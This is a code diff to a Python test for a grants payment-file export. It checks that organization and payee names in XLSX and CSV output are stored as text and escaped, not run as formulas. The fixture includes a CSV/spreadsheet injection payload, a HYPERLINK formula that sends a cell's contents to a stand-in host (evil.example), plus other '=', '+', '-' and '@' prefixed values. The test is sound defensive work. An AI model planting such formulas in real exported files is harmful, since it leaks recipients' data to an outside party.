@@ -8,7 +8,7 @@ import io
 from openpyxl import load_workbook
 
 from grants.models import Organization
-from tests.support.finance import approved_apps
+from tests.support.finance import approved_apps, column_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点此核对")'
 NAMES = [FORMULA, "+86 乌鲁木齐", "-1+1", "@SUM(A1)", "铃声\x07公司"]
@@ -22,6 +22,7 @@ def _batch_with_names(as_user) -> tuple[object, list]:
         org.pk = None
         org.uscc = f"91650102MA{app.pk:07d}"[:17] + "X"
         org.name = name
+        org.bank_account_name = name  # the payee as the bank holds it: typed by a person too
         org.save()  # stored before the boundary refused such names: the export must cope
         app.organization = org
         app.save(update_fields=["organization"])
@@ -36,18 +37,22 @@ def test_payment_file_xlsx_and_csv_hold_text_not_formulas(as_user):
     xlsx = finance.get(f"/disbursements/{batch['id']}/payment-file")
     assert xlsx.status_code == 200
     sheet = load_workbook(io.BytesIO(xlsx.content)).active
-    cells = {row[3].value: row[3] for row in sheet.iter_rows(min_row=2) if row[3].value}
-    for name in NAMES:
-        shown = name.replace("\x07", "\ufffd")
-        assert shown in cells, (name, list(cells))
-        assert cells[shown].data_type == "s"  # a string cell, never "f" (formula)
+    header = [c.value for c in sheet[1]]
+    for column in ("收款人名称", "单位名称"):  # the account's name and the registered name
+        i = column_of(header)[column]
+        cells = {row[i].value: row[i] for row in sheet.iter_rows(min_row=2) if row[i].value}
+        for name in NAMES:
+            shown = name.replace("\x07", "\ufffd")
+            assert shown in cells, (column, name, list(cells))
+            assert cells[shown].data_type == "s"  # a string cell, never "f" (formula)
 
     text = finance.get(f"/disbursements/{batch['id']}/payment-file", format="csv").content
     table = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
-    names = [row[3] for row in table[1:-1]]
-    assert "'" + FORMULA in names and "'+86 乌鲁木齐" in names and "'@SUM(A1)" in names
-    assert "铃声\ufffd公司" in names
-    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
+    for column in ("收款人名称", "单位名称"):
+        names = [row[column_of(table[0])[column]] for row in table[1:-1]]
+        assert "'" + FORMULA in names and "'+86 乌鲁木齐" in names and "'@SUM(A1)" in names
+        assert "铃声\ufffd公司" in names
+        assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
 
 
 def test_the_finance_export_with_such_names_opens(as_user):
